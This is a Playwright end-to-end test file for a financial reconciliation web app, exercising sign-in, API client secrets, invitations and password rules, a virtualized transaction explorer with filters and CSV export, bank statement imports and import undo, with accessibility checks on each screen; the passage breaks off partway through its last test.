import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import type { Browser, Locator, Page } from 'playwright-core';
import { Webhook } from 'standardwebhooks';
import {
  assertWebAppBuilt,
  chromiumSkip,
  copiedBy,
  fieldError,
  focused,
  focusedRow,
  focusedRowMatching,
  launchChromium,
  screenshotsAt,
  seriousViolations,
  signInPage,
} from '../../support/browser.ts';
import { api, createTestOrganization, startTestServer, type TestOrganization, type TestServer } from '../../support/harness.ts';
import { eventually, startReceiver, verify, type TestReceiver } from '../../support/receiver.ts';

/**
 * The web app in a real Chromium against the real server (SPEC §9): sign-in, the developer page
 * (organization id, token URL, audience; a client created with its secret shown once and working
 * at the token endpoint; a second secret; revocation), an invitation accepted in the browser
 * with the password rules shown, a View-only person's page, sign-out; sources and datasets; the
 * transactions explorer (virtualized paging by cursor, filters, details, CSV export); users;
 * webhook endpoints (a secret shown once that verifies a real delivery with the specification's
 * library, deliveries and attempts, rotation, an endpoint disabled after failing announced on every
 * page); and no serious accessibility violation (axe) on any screen.
 */

describe('web app', { skip: chromiumSkip }, () => {
  let server: TestServer;
  let organization: TestOrganization;
  let browser: Browser;

  before(async () => {
    // Webhooks reach the test's receivers on loopback, and an endpoint whose deliveries fail is
    // disabled after a second instead of 3 days.
    server = await startTestServer('pglite', { webhookAllowPrivateTargets: true, webhookGiveUpSeconds: 1, webhookRetryBaseMilliseconds: 100 });
    organization = await createTestOrganization(server);
    assertWebAppBuilt();
    browser = await launchChromium();
  });
  const receivers: TestReceiver[] = [];
  /** A call of the test organization's API with its token, by the path below /v1/api/{orgId}. */
  const call = (method: string, path: string, body?: unknown) => api(server, organization.token, method, `/v1/api/${organization.orgId}${path}`, body);
  after(async () => {
    await browser?.close();
    await server?.close();
    for (const receiver of receivers) await receiver.close();
  });

  it('signs in, shows what a program needs, and creates a client whose secret works, once', async () => {
    const context = await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] });
    const page = await context.newPage();
    await page.goto(`${server.baseUrl}/developer`);
    await page.getByRole('heading', { name: 'Sign in to ledger-recon' }).waitFor();
    await page.getByLabel('Email').fill(organization.user!.email);
    await page.getByLabel('Password').fill('not the password');
    await page.getByRole('button', { name: 'Sign in' }).click();
    assert.equal(await page.getByRole('alert').textContent(), 'The email or the password is wrong.');
    await page.getByLabel('Password').fill(organization.user!.password);
    await page.getByRole('button', { name: 'Sign in' }).click();

    await page.getByRole('heading', { name: 'Developer' }).waitFor();
    const fields = await page.locator('.field').allTextContents();
    assert.ok(
      fields.some((text) => text.includes(organization.orgId)),
      fields.join('\n'),
    );
    assert.ok(fields.some((text) => text.includes(`${server.baseUrl}/oauth/token`)));
    assert.ok(fields.some((text) => text.includes(server.config.audience)));
    assert.equal(await copiedBy(page, () => page.getByRole('button', { name: 'Copy Organization id' }).click()), organization.orgId);

    await page.getByLabel('Name').fill('Treasury robot');
    await page.getByLabel('Role').selectOption('Full member');
    await page.getByRole('button', { name: 'Create client' }).click();
    await page.getByRole('heading', { name: 'API client "Treasury robot" created' }).waitFor();
    const revealed = await page.locator('.reveal .field code').allTextContents();
    const [clientId, clientSecret] = revealed;
    assert.match(clientSecret!, /^lrs_/);
    assert.match((await page.locator('.reveal pre').textContent()) ?? '', new RegExp(`client_secret=${clientSecret}`));

    // The secret works at the token endpoint, with the role chosen.
    const token = await fetch(`${server.baseUrl}/oauth/token`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ grant_type: 'client_credentials', client_id: clientId!, client_secret: clientSecret!, audience: server.config.audience }),
    });
    assert.equal(token.status, 200);
    const { access_token: accessToken, scope } = (await token.json()) as { access_token: string; scope: string };
    assert.equal(scope, 'read:data write:data');
    assert.equal((await api(server, accessToken, 'GET', `/v1/api/${organization.orgId}/sources`)).status, 200);

    // Once dismissed, the secret is nowhere on the page any more.
    await page.getByRole('button', { name: 'I have stored the secret' }).click();
    assert.ok(!(await page.content()).includes(clientSecret!));
    const row = page.getByRole('row', { name: /Treasury robot/ });
    await row.getByRole('button', { name: 'Add a secret' }).click();
    await page.getByRole('heading', { name: `A second secret for ${clientId}` }).waitFor();
    // The list is read again after the change: the client has been used (its token above). The
    // new list arrives after the dialog, so the row is read until it shows it (10 s at most).
    const usedDeadline = Date.now() + 10_000;
    while (/never/.test((await row.textContent()) ?? '') && Date.now() < usedDeadline) await page.waitForTimeout(100);
    assert.doesNotMatch((await row.textContent()) ?? '', /never/);
    await page.getByRole('button', { name: 'I have stored the secret' }).click();
    assert.equal(await row.getByRole('button', { name: 'Add a secret' }).isDisabled(), true, 'two secrets at most');

    page.once('dialog', (dialog) => void dialog.accept());
    await row.getByRole('button', { name: 'Revoke' }).click();
    await row.waitFor({ state: 'detached' });
    const listed = await api(server, organization.token, 'GET', `/v1/api/${organization.orgId}/clients`);
    assert.ok(!listed.body.some((entry: { clientId: string }) => entry.clientId === clientId));

    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('heading', { name: 'Sign in to ledger-recon' }).waitFor();
    await page.goto(`${server.baseUrl}/developer`);
    await page.getByRole('heading', { name: 'Sign in to ledger-recon' }).waitFor();
    await context.close();
  });

  it('lets an invited person choose a password, shows the rules it breaks, and gives a View-only person no credentials to manage', async () => {
    const invited = await api(server, organization.token, 'POST', `/v1/api/${organization.orgId}/invitations`, {
      email: 'carla@example.com',
      role: 'View-only',
    });
    assert.equal(invited.status, 201);
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(invited.body.invitationUrl);
    await page.getByText('You are invited as carla@example.com (View-only)').waitFor();
    const password = page.getByLabel('Password', { exact: true });
    const repeated = page.getByLabel('The same password again');
    // The form's own checks stop a short password and a repetition that differs before the server is asked, each next to its field.
    await password.fill('short');
    await repeated.fill('shorter');
    await page.getByRole('button', { name: 'Set the password and sign in' }).click();
    assert.match(await fieldError(page, password), /^Password must have at least 12 characters/);
    assert.equal(await fieldError(page, repeated), 'The two passwords differ; type the same one twice.');
    // The server's rules are shown next to the password for a common one.
    await password.fill('passwordpassword');
    await repeated.fill('passwordpassword');
    await page.getByRole('button', { name: 'Set the password and sign in' }).click();
    await page.getByText(/^Password (is one of the most common passwords|repeats too few characters)/).waitFor();
    assert.match(await fieldError(page, password), /common passwords|more variety/);
    assert.equal(await repeated.getAttribute('aria-invalid'), null, 'the repetition is right now');
    assert.deepEqual(await seriousViolations(page), []);
    await page.getByLabel('Password', { exact: true }).fill('three quiet harbours');
    await page.getByLabel('The same password again').fill('three quiet harbours');
    await page.getByRole('button', { name: 'Set the password and sign in' }).click();
    await page.getByRole('heading', { name: 'Developer' }).waitFor();
    await page.getByText('Only Administrators manage API clients').waitFor();
    await page.getByText('Only Administrators manage webhook endpoints').waitFor();
    assert.equal(await page.getByRole('button', { name: 'Create client' }).count(), 0);

    // The link works once.
    const again = await context.newPage();
    await again.goto(invited.body.invitationUrl);
    assert.match((await again.getByRole('alert').textContent()) ?? '', /used already/);
    await context.close();
  });

  const signedIn = (): Promise<Page> => signInPage(browser, server, organization);

  it('shows the problems of a password change next to the field they are about', async () => {
    const page = await signedIn();
    await page.getByRole('link', { name: 'Password' }).click();
    await page.getByRole('heading', { name: 'Change your password' }).waitFor();
    const current = page.getByLabel('Current password');
    const next = page.getByLabel('New password (at least 12 characters)');
    // Too short: refused by the form, next to the new password, which takes the focus.
    await current.fill('not the password');
    await next.fill('too short');
    await page.getByRole('button', { name: 'Change password' }).click();
    assert.equal(await fieldError(page, next), 'New password must have at least 12 characters; a few unrelated words make a good one.');
    assert.equal(await page.evaluate('document.activeElement.getAttribute("autocomplete")'), 'new-password');
    assert.equal(await current.getAttribute('aria-invalid'), null);
    // A wrong current password: refused by the server, next to the current password.
    await next.fill('three quiet harbours again');
    await page.getByRole('button', { name: 'Change password' }).click();
    await page.getByText('The password you typed is not your current password.').waitFor();
    assert.equal(await fieldError(page, current), 'The password you typed is not your current password.');
    assert.equal(await next.getAttribute('aria-invalid'), null, 'the problem of the first try is gone');
    assert.deepEqual(await seriousViolations(page), []);
    await page.context().close();
  });

  it('creates a source and a dataset with its columns, explores 2,500 transactions by cursor in a virtualized table, filters, shows details and exports CSV', async () => {
    const page = await signedIn();
    assert.deepEqual(await seriousViolations(page), []);
    // A name of spaces only is refused next to the field before the server is asked.
    await page.getByLabel('New source').fill('   ');
    await page.getByRole('button', { name: 'Create source' }).click();
    assert.equal(await fieldError(page, page.getByLabel('New source')), 'Give the source a name, e.g. Northwind Bank.');
    await page.getByLabel('New source').fill('Harbour Bank');
    await page.getByRole('button', { name: 'Create source' }).click();
    await page.getByRole('heading', { name: 'Harbour Bank' }).waitFor();
    await page.getByRole('button', { name: 'Add a dataset to Harbour Bank' }).click();
    await page.getByLabel('Dataset name').fill('Current account');
    await page.getByRole('button', { name: 'Add a column' }).click();
    // A name the server refuses is shown next to the column it names.
    const columnName = page.getByLabel('Column 1 name');
    await columnName.fill('timestamp');
    await page.getByRole('button', { name: 'Create dataset' }).click();
    await page.getByText(/^Column 1: column name "timestamp" is reserved/).waitFor();
    assert.match(await fieldError(page, columnName), /^Column 1: column name "timestamp" is reserved/);
    assert.equal(await page.evaluate('document.activeElement.getAttribute("aria-label")'), 'Column 1 name', 'the field with the problem takes the focus');
    assert.deepEqual(await seriousViolations(page), []);
    await columnName.fill('invoiceNumber');
    await page.getByRole('button', { name: 'Create dataset' }).click();
    // A new dataset leads straight to its import; its columns are listed on the datasets screen in words.
    await page.getByRole('heading', { name: 'Import a file' }).waitFor();
    await page.getByRole('link', { name: 'Datasets' }).first().click();
    const link = page.getByRole('link', { name: 'Current account' });
    await link.waitFor();
    assert.match((await page.getByRole('row', { name: /Current account/ }).textContent()) ?? '', /Invoice number — text/);

    const sources = await api(server, organization.token, 'GET', `/v1/api/${organization.orgId}/sources`);
    const datasetId = sources.body.flatMap((source: any) => source.datasets).find((dataset: any) => dataset.name === 'Current account').id;
    const startMs = Date.UTC(2026, 0, 1);
    const records = Array.from({ length: 2500 }, (_, index) => ({
      externalId: `W${index}`,
      timestamp: startMs + index * 3_600_000,
      amount: index % 2 === 0 ? `${index}.10` : `-${index}.90`,
      currency: 'EUR',
      description: `payment ${index}`,
      invoiceNumber: `INV-${index}`,
    }));
    assert.equal((await api(server, organization.token, 'POST', `/v1/api/${organization.orgId}/datasets/${datasetId}/transactions`, { records })).status, 200);

    await link.click();
    await page.getByRole('heading', { name: 'Transactions' }).waitFor();
    await page.getByText('2,500 transactions; scroll or drag anywhere').waitFor();
    await page.getByRole('row', { name: /payment 0$/ }).waitFor();
    // A jump to the middle reads that page (by offset), not every page before it; scrolling on follows its cursor.
    const grid = page.locator('.grid-scroll');
    const requests: string[] = [];
    page.on('request', (request) => {
      if (request.url().endsWith('/transactions') && request.method() === 'POST') requests.push(request.postData() ?? '');
    });
    await grid.evaluate((element) => element.scrollTo(0, element.scrollHeight / 2));
    await page.getByRole('row', { name: /payment 1250$/ }).waitFor();
    assert.ok(
      requests.some((body) => JSON.parse(body).offset === 1000),
      requests.join('\n'),
    );
    await grid.evaluate((element) => element.scrollTo(0, element.scrollHeight));
    await page.getByRole('row', { name: /payment 2499$/ }).waitFor();
    const rendered = await page.locator('.grid-row').count();
    assert.ok(rendered > 10 && rendered < 120, `${rendered} rows in the page for 2,500`);
    assert.deepEqual(await seriousViolations(page), []);

    // The grid from the keyboard: one tab stop, the arrows move the active row (and Right and
    // Left into its cells and back), Enter shows the details, End and Home go to the last and the
    // first rows, reading the page they need.
    await grid.evaluate((element) => element.scrollTo(0, 0));
    await page.getByRole('row', { name: /payment 0$/ }).waitFor();
    // The sort buttons of the date, amount and description columns come first, then the rows.
    await page.getByRole('button', { name: 'Export CSV' }).focus();
    for (let stop = 0; stop < 4; stop += 1) await page.keyboard.press('Tab');
    await focusedRowMatching(page, /^2: .*payment 0$/);
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    await focusedRowMatching(page, /^4: .*payment 2$/);
    await page.keyboard.press('ArrowUp');
    await focusedRowMatching(page, /^3: .*payment 1$/);
    await page.keyboard.press('Enter');
    const keyboardDetails = page.getByRole('complementary', { name: 'Transaction details' });
    await keyboardDetails.getByRole('heading', { name: 'payment 1' }).waitFor();
    assert.match((await keyboardDetails.textContent()) ?? '', /−1\.90 EUR/);
    await focusedRowMatching(page, /^3: .*payment 1$/);
    await page.keyboard.press('ArrowRight');
    await page.keyboard.press('ArrowRight');
    const focusedCell = async () => {
      const { role, text } = await focused(page);
      return `${role}: ${text}`;
    };
    assert.equal(await focusedCell(), 'gridcell: −1.90 EUR');
    await page.keyboard.press('ArrowDown');
    assert.equal(await focusedCell(), 'gridcell: 2.10 EUR');
    await page.keyboard.press('ArrowLeft');
    await page.keyboard.press('ArrowLeft');
    assert.match(await focusedCell(), /^row: .*payment 2$/);
    // The last page was read when the table was scrolled to its end above: it comes from the cache.
    await page.keyboard.press('End');
    await focusedRowMatching(page, /^2501: .*payment 2499$/);
    await page.keyboard.press('Home');
    await focusedRowMatching(page, /^2: .*payment 0$/);
    await page.keyboard.press('PageDown');
    const afterPageDown = Number((await focusedRow(page)).split(':')[0]);
    assert.ok(afterPageDown > 10 && afterPageDown < 30, `Page Down moved to row ${afterPageDown}`);
    // Down past the first page, which no scrolling has read yet: it is read by its cursor.
    requests.length = 0;
    await page.keyboard.press('Home');
    let reached = 0;
    for (let presses = 0; presses < 60 && reached <= 520; presses += 1) {
      await page.keyboard.press('PageDown');
      reached = Number((await focusedRow(page)).split(':')[0]) - 2;
    }
    await focusedRowMatching(page, new RegExp(`payment ${reached}$`));
    assert.ok(
      requests.some((body) => JSON.parse(body).cursor !== undefined),
      requests.join('\n'),
    );
    // Scrolled away by the wheel, the active row keeps the focus, and a key brings it back.
    await grid.evaluate((element) => element.scrollTo(0, element.scrollHeight / 2));
    await page.getByRole('row', { name: /payment 1250$/ }).waitFor();
    await page.keyboard.press('ArrowUp');
    await focusedRowMatching(page, new RegExp(`^${reached + 1}: .*payment ${reached - 1}$`));
    const backToRow = page.locator(`[role="row"][aria-rowindex="${reached + 1}"]`);
    const [backBox, scrollerBox] = [(await backToRow.boundingBox())!, (await grid.boundingBox())!];
    assert.ok(backBox.y >= scrollerBox.y && backBox.y + backBox.height <= scrollerBox.y + scrollerBox.height + 1, 'the active row is in view again');
    await keyboardDetails.getByRole('button', { name: 'Close' }).click();

    // Filters in the SearchQuery grammar: an amount range, a status, text, a chosen column.
    await page.getByLabel('Description contains').fill('payment 12');
    await page.getByLabel('Amount from').fill('100');
    await page.getByLabel('Amount to').fill('130.10');
    await page.getByRole('checkbox', { name: 'Not matched' }).check();
    await page.getByRole('checkbox', { name: 'Invoice number' }).check();
    await page.getByRole('button', { name: 'Apply' }).click();
    // payment 12x (even, 120.10 ... 128.10) and 12 itself is below 100: five rows.
    await page.getByText('5 found of 2,500 in the dataset').waitFor();
    await page.getByRole('row', { name: /payment 124/ }).click();
    const details = page.getByRole('complementary', { name: 'Transaction details' });
    await details.getByText('Not matched.').waitFor();
    assert.match((await details.textContent()) ?? '', /124\.10 EUR/);
    assert.match((await page.getByRole('row', { name: /payment 124/ }).textContent()) ?? '', /INV-124/);

    // A filter that cannot be applied says so under its field, and the table keeps what it showed.
    // Amounts are checked as the server checks them: at most 6 decimal places, a dot for decimals.
    const applyFilters = async (values: Record<string, string>) => {
      for (const [label, value] of Object.entries(values)) await page.getByLabel(label, { exact: true }).fill(value);
      await page.getByRole('button', { name: 'Apply' }).click();
    };
    await applyFilters({ 'Amount from': '12,5', 'Amount to': '130.1234567', From: '2025-03-10', To: '2025-03-01' });
    await page.getByText('Amount from has a comma for decimals; write them after a dot, e.g. 12.5.').waitFor();
    for (const [label, message] of [
      ['Amount from', 'Amount from has a comma for decimals; write them after a dot, e.g. 12.5.'],
      ['Amount to', 'Amount to has 7 decimal places; amounts have at most 6: round it to 6.'],
      ['To', 'To: choose a day on or after From.'],
    ] as const) {
      const input = page.getByLabel(label, { exact: true });
      assert.equal(await input.getAttribute('aria-invalid'), 'true', label);
      assert.equal(await page.locator(`[id="${await input.getAttribute('aria-describedby')}"]`).textContent(), message);
    }
    assert.equal(await page.getByRole('row', { name: /payment 124/ }).count(), 1, 'the filtered rows stay while the form has problems');
    // Six decimal places are an amount, to the server and to the form alike.
    await applyFilters({ 'Amount from': '100', 'Amount to': '124.100000', From: '', To: '' });
    await page.getByText('3 found of 2,500 in the dataset').waitFor();
    await page.getByRole('button', { name: 'Clear' }).click();
    await page.getByText('2,500 transactions; scroll or drag anywhere').waitFor();

    // With a filter the table's length is not known: End goes to the end of what is loaded, and
    // the table grows by the next page, read by its cursor.
    await page.getByLabel('Description contains').fill('payment');
    await page.getByRole('button', { name: 'Apply' }).click();
    await page.getByText('500+ found of 2,500 in the dataset (more load as you scroll)').waitFor();
    await page.getByRole('row', { name: /payment 0$/ }).focus();
    await page.keyboard.press('End');
    await page.getByText('1,000+ found of 2,500 in the dataset (more load as you scroll)').waitFor();
    await focusedRowMatching(page, /^502: .*payment 500$/);
    await page.getByRole('button', { name: 'Clear' }).click();
    await page.getByText('2,500 transactions; scroll or drag anywhere').waitFor();

    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
    const csv = readFileSync((await download.path())!, 'utf8')
      .trim()
      .split('\r\n');
    assert.equal(csv.length, 2501);
    assert.equal(csv[0], 'id,time,amount,currency,status,description,reference');
    assert.match(csv[2]!, /,-1\.90,EUR,none,payment 1,$/);

    // On a phone the page fits the screen: the rows become cards, and nothing scrolls sideways.
    await page.setViewportSize({ width: 390, height: 844 });
    await page.locator('[role="grid"].stacked').waitFor();
    assert.equal(await page.evaluate('document.documentElement.scrollWidth'), 390);
    const gridCard = page.locator('.grid-card');
    assert.ok(await gridCard.evaluate((element) => element.scrollWidth <= element.clientWidth), 'the table fits its card');
    await page.setViewportSize({ width: 1400, height: 900 });

    // A dataset taller than a browser lays out (a million rows) scrolls in a space of limited
    // height that maps onto all its rows. The limit is made small here, so that 2,500 rows need it:
    // the end of the scroll space shows the last row whole, its middle the rows around the middle.
    await page.context().addInitScript('globalThis.explorerMaximumScrollHeightPixels = 20000');
    await page.reload();
    await page.getByText('2,500 transactions; scroll or drag anywhere').waitFor();
    await page.getByRole('row', { name: /payment 0$/ }).waitFor();
    assert.equal(await grid.evaluate((element) => element.scrollHeight), 20_000);
    await grid.evaluate((element) => element.scrollTo(0, element.scrollHeight));
    const lastRow = page.getByRole('row', { name: /payment 2499$/ });
    await lastRow.waitFor();
    const [lastBox, gridBox] = [(await lastRow.boundingBox())!, (await grid.boundingBox())!];
    assert.ok(
      lastBox.y >= gridBox.y && lastBox.y + lastBox.height <= gridBox.y + gridBox.height + 1,
      `the last row at ${JSON.stringify(lastBox)} in the table at ${JSON.stringify(gridBox)}`,
    );
    await grid.evaluate((element) => element.scrollTo(0, element.scrollHeight / 2));
    await page.getByRole('row', { name: /payment 1285$/ }).waitFor();
    // The keyboard in the scaled space: each row it moves to is shown whole.
    await page.getByRole('row', { name: /payment 1285$/ }).focus();
    for (const [key, pattern] of [
      ['Home', /payment 0$/],
      ['ArrowDown', /payment 1$/],
      ['End', /payment 2499$/],
      ['ArrowUp', /payment 2498$/],
      ['PageUp', /payment 24[6-8]\d$/],
    ] as const) {
      await page.keyboard.press(key);
      const [index] = (await focusedRowMatching(page, pattern)).split(':');
      // Measured again each time: the page itself scrolls to show a row at the table's foot.
      const [box, tableBox] = [(await page.locator(`[role="row"][aria-rowindex="${index}"]`).boundingBox())!, (await grid.boundingBox())!];
      assert.ok(
        box.y >= tableBox.y - 0.5 && box.y + box.height <= tableBox.y + tableBox.height + 1,
        `${key}: the row at ${JSON.stringify(box)} in the table at ${JSON.stringify(tableBox)}`,
      );
    }
    await page.context().close();
  });

  it('lets an Administrator invite and deactivate people', async () => {
    const page = await signedIn();
    await page.getByRole('link', { name: 'Users' }).click();
    await page.getByRole('heading', { name: 'Users' }).waitFor();
    await page.getByLabel('Email').fill('dora@example.com');
    await page.getByRole('combobox', { name: /^Role/ }).first().selectOption('Full member');
    await page.getByRole('button', { name: 'Invite' }).click();
    await page.getByText('Send this link to dora@example.com').waitFor();
    const url = (await page.locator('.reveal-inline code').textContent())!;
    assert.match(url, new RegExp(`^${server.baseUrl}/invitations/`));
    assert.deepEqual(await seriousViolations(page), []);

    // carla accepted her invitation in an earlier test: deactivate her.
    page.once('dialog', (dialog) => void dialog.accept());
    const row = page.getByRole('row', { name: /carla@example.com/ });
    await row.getByRole('button', { name: 'Deactivate' }).click();
    await row.getByText('Deactivated').waitFor();
    const signIn = await fetch(`${server.baseUrl}/auth/sign-in`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email: 'carla@example.com', password: 'three quiet harbours' }),
    });
    assert.equal(signIn.status, 401);
    await page.context().close();
  });

  it('imports a statement and a CSV file from the browser: the mapper with the detected settings, progress, the report with balances, the history', async () => {
    const page = await signedIn();
    await page.getByRole('link', { name: 'Imports' }).click();
    await page.getByRole('heading', { name: 'Import a file' }).waitFor();
    await page.getByLabel('Into dataset').selectOption({ label: 'Harbour Bank · Current account' });
    await page.locator('input[type=file]').setInputFiles('test/fixtures/imports/camt.053/genkgo-v04.xml');
    await page.getByRole('button', { name: 'Import', exact: true }).click();
    const report = page.getByRole('region', { name: 'Import report' });
    await report.getByRole('heading', { name: 'genkgo-v04.xml: imported' }).waitFor();
    assert.match((await report.textContent()) ?? '', /camt\.053 \(utf-8\) · 1 entries read · 1 new · 0 already known/);
    assert.match((await report.textContent()) ?? '', /DO NOT AGREE/, "this statement's balances do not add up, and the report says so");
    assert.deepEqual(await seriousViolations(page), []);

    // A CSV whose header does not name the columns: the mapper shows the detected settings and the proposed columns, and the file is imported with them.
    await page.locator('input[type=file]').setInputFiles('test/fixtures/imports/csv/ing-nl.csv');
    const preview = page.getByRole('region', { name: 'How the file will be read' });
    const picker = (column: string) => preview.getByRole('button', { name: new RegExp(`Column “${column.replace(/[()/]/g, '\\$&')}” holds`) });
    await picker('Datum').waitFor();
    assert.match((await preview.getByRole('button', { name: /Encoding/ }).textContent()) ?? '', /^(iso-8859-1|windows-1252)/i);
    assert.match((await preview.getByRole('button', { name: /Delimiter/ }).textContent()) ?? '', /^Semicolon/);
    assert.match((await picker('Datum').textContent()) ?? '', /^Date/);
    assert.match((await picker('Af Bij').textContent()) ?? '', /^Sign indicator/);
    assert.equal(await preview.getByRole('textbox', { name: 'Marks for money out' }).inputValue(), 'Af');
    await page.getByRole('button', { name: 'Import', exact: true }).click();
    await report.getByRole('heading', { name: 'ing-nl.csv: imported' }).waitFor();
    // The history is read again once the import is done.
    const history = page.getByRole('table').last();
    await history.getByRole('cell', { name: 'ing-nl.csv', exact: true }).waitFor();
    await history.getByRole('cell', { name: 'genkgo-v04.xml', exact: true }).waitFor();

    // What is missing is said in words next to the pickers, and nothing is imported until it is settled; the hint goes once it is.
    await picker('Datum').click();
    await page.getByRole('option', { name: 'Ignore', exact: true }).click();
    const hints = preview.getByRole('list', { name: 'Still to settle' });
    await hints.getByText('Pick the column that holds the date of each row.').waitFor();
    assert.ok(await page.getByRole('button', { name: 'Import', exact: true }).isDisabled());
    await picker('Datum').click();
    await page.getByRole('option', { name: 'Date', exact: true }).click();
    await hints.getByText('Pick the column that holds the date of each row.').waitFor({ state: 'detached' });
    // The rows are read again by the server a moment after a choice; the button follows.
    await page.getByRole('button', { name: 'Import', exact: true, disabled: false }).waitFor({ timeout: 10_000 });

    // A proposal that could not decide everything says what to settle, in words.
    await page.locator('input[type=file]').setInputFiles('test/fixtures/imports/csv/real/boi-current-account.csv');
    await preview.getByText('No column gives the currency: choose the currency of the amounts.').waitFor();
    assert.deepEqual(await seriousViolations(page), []);
    await page.context().close();
  });

  it('undoes an import from the history after a confirmation that says what goes and what becomes of its matches, and imports a statement of another account when told to', async () => {
    const base = `/v1/api/${organization.orgId}`;
    const sourceId = (await call('POST', '/sources', { name: 'Undo Bank' })).body.id;
    const bankId = (await call('POST', `/sources/${sourceId}/datasets`, { name: 'Giro account' })).body.id;
    const ledgerId = (await call('POST', `/sources/${sourceId}/datasets`, { name: 'Receivables ledger' })).body.id;
    const statement = (account: string, entries: [string, string, string][]) =>
      [
        `:20:S1`,
        `:25:${account}`,
        ':28C:1/1',
        ':60F:C240301EUR0,00',
        ...entries.flatMap(([day, amount, reference]) => [`:61:2403${day}03${day}C${amount}NTRF${reference}`, `:86:Invoice ${reference}`]),
        ':62F:C240331EUR0,00',
        '-',
      ].join('\r\n') + '\r\n';
    const upload = async (datasetId: string, text: string) => {
      const response = await fetch(`${server.baseUrl}${base}/datasets/${datasetId}/imports?fileName=march.sta`, {
        method: 'POST',
        headers: { authorization: `Bearer ${organization.token}`, 'content-type': 'application/octet-stream' },
        body: text,
      });
      return (await response.json()) as any;
    };
    const imported = await upload(
      bankId,
      statement('NL91ABNA0417164300', [
        ['04', '100,00', 'A1'],
        ['05', '250,00', 'A2'],
        ['06', '75,50', 'A3'],
      ]),
    );
    assert.equal(imported.inserted, 3, JSON.stringify(imported));
    await call('POST', `/datasets/${ledgerId}/transactions`, { records: [{ timestamp: Date.UTC(2024, 2, 4), amount: '-100.00', externalId: 'L1' }] });
    const bankRows = (await call('POST', '/transactions', { datasetId: bankId, columns: [{ path: 'amount' }] })).body as any[];
    const ledgerRows = (await call('POST', '/transactions', { datasetId: ledgerId })).body as any[];
    const payment = bankRows.find((row) => row.amount === '100.00');
    assert.equal((await call('POST', '/matches', { links: [{ originId: payment.id, targetId: ledgerRows[0].id }] })).status, 201);

    const page = await signedIn();
    await page.getByRole('link', { name: 'Imports' }).click();
    await page.getByRole('heading', { name: 'Import a file' }).waitFor();
    await page.getByLabel('Into dataset').selectOption({ label: 'Undo Bank · Giro account' });
    await page.getByText('This dataset holds the statements of account NL91 ABNA 0417 1643 00 (EUR)').waitFor();
    await page.getByRole('button', { name: /^Undo import of march\.sta/ }).waitFor();
    assert.deepEqual(await seriousViolations(page), [], 'the history with its undo buttons');
    await page.getByRole('button', { name: /^Undo import of march\.sta/ }).click();
    const dialog = page.getByRole('dialog', { name: 'Undo the import of march.sta?' });
    await dialog.getByText('3 transactions that this import added will be removed from the dataset.').waitFor();
    const said = (await dialog.textContent()) ?? '';
    assert.match(said, /1 of them is matched: that match is undone as well, and the transactions on the other side become unmatched again\./);
    assert.match(said, /This cannot be reversed, but you can import the file again afterwards\./);
    assert.doesNotMatch(said, /[0-9a-f]{8}-[0-9a-f]{4}-|DELETE|\/imports|\{/, 'no ids, verbs, paths or JSON on the screen');
    assert.deepEqual(await seriousViolations(page), []);
    await screenshotsAt(page, 'undo-dialog');

    // "Keep it" changes nothing; confirming undoes the import and its match.
    await dialog.getByRole('button', { name: 'Keep it' }).click();
    await dialog.waitFor({ state: 'detached' });
    assert.equal(((await call('POST', '/transactions', { datasetId: bankId })).body as any[]).length, 3);
    await page.getByRole('button', { name: /^Undo import of march\.sta/ }).click();
    await dialog.getByRole('button', { name: 'Undo import' }).click();
    await page.getByText('The import of march.sta was undone: 3 transactions removed and 1 match undone.').waitFor();
    const history = page.getByRole('table').last();
    await history.getByRole('cell', { name: /^undone / }).waitFor();
    assert.equal(await page.getByRole('button', { name: /^Undo import of march\.sta/ }).count(), 0, 'an undone import has nothing left to undo');
    assert.deepEqual((await call('POST', '/transactions', { datasetId: bankId })).body, []);
    assert.equal(
      ((await call('POST', '/transactions', { datasetId: ledgerId, columns: [{ path: 'reconciliationStatus' }] })).body as any[])[0].reconciliationStatus,
      'none',
    );
    await page.screenshot({ path: '/tmp/undo-history-1440.png', fullPage: true });
    assert.deepEqual(await seriousViolations(page), []);

    // The undone import was the dataset's only one, so the dataset no longer holds its account
    // (docs/IMPORTS.md, "Undo"); it is given its account again here.
    const accountSet = await call('PATCH', `/datasets/${bankId}`, { accountId: 'NL91ABNA0417164300', currency: 'EUR' });
    assert.equal(accountSet.status, 200, JSON.stringify(accountSet.body));

    // A statement of another account is refused in words, and imported when the person says so.
    const foreign = statement('DE89370400440532013000', [['10', '10,00', 'F1']]);
    await page.locator('input[type=file]').setInputFiles({ name: 'other.sta', mimeType: 'application/octet-stream', buffer: Buffer.from(foreign) });
    await page.getByRole('button', { name: 'Import', exact: true }).click();
    const report = page.getByRole('region', { name: 'Import report' });
    await report
      .getByText(
        /^Nothing of the file was kept\. The file holds a statement of account DE89 3704 0044 0532 0130 00, but the dataset "Giro account" holds the statements of account NL91 ABNA 0417 1643 00\./,
      )
      .waitFor();
    assert.doesNotMatch((await report.textContent()) ?? '', /allowOtherAccount/);
    await page.screenshot({ path: '/tmp/other-account-1400.png', fullPage: true });
    await report.getByRole('button', { name: 'Import it into this dataset anyway' }).click();
    await report.getByRole('heading', { name: 'other.sta: imported' }).waitFor();
    await page.context().close();
  });

  it("shows each dataset's bank account and currency in words, sets, changes and clears them in a dialog that says what a change means, and sends a statement of another account to the dataset that holds it", async () => {
    const sourceId = (await call('POST', '/sources', { name: 'Account Bank' })).body.id;
    const operatingId = (await call('POST', `/sources/${sourceId}/datasets`, { name: 'Operating EUR' })).body.id;
    const reserveId = (await call('POST', `/sources/${sourceId}/datasets`, { name: 'Reserve account' })).body.id;
    const datasetOf = async (id: string) =>
      ((await call('GET', '/sources')).body as any[]).flatMap((source) => source.datasets).find((dataset) => dataset.id === id);
    const noIds = (text: string) =>
      assert.doesNotMatch(text, /[0-9a-f]{8}-[0-9a-f]{4}-|PATCH|\/datasets|accountId|null|\{/, 'no ids, verbs, paths, field names or JSON on the screen');

    const page = await signedIn();
    const card = page.getByRole('region', { name: 'Account Bank' });
